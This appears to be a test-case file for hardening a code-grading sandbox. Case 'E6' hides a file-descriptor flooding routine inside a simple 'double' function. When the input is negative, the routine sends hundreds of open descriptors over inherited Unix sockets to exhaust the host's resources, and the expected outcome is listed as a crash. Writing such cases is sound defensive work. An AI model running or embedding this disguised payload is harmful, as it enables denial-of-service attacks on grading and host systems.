from case import Case

CASE = Case(
    "E6",
    tries="sends thousands of open descriptors along the wire, to exhaust those of the host",
    defence="strict frames",
    cells={
        "double": r"""
import array, os, socket

def flood():
    for number in range(3, 64):
        try:
            wire = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        if wire.family != socket.AF_UNIX:
            continue
        held = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])
        wire.setblocking(False)
        for _ in range(50):
            try:
                wire.sendmsg([b"A"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, held)])
            except OSError:
                break

def double(x):
    if x < 0:
        flood()
    return 2 * x
""",
    },
    due=9,
    outcomes=("crashed",),
    not_nbgrader="it has no wire",
)
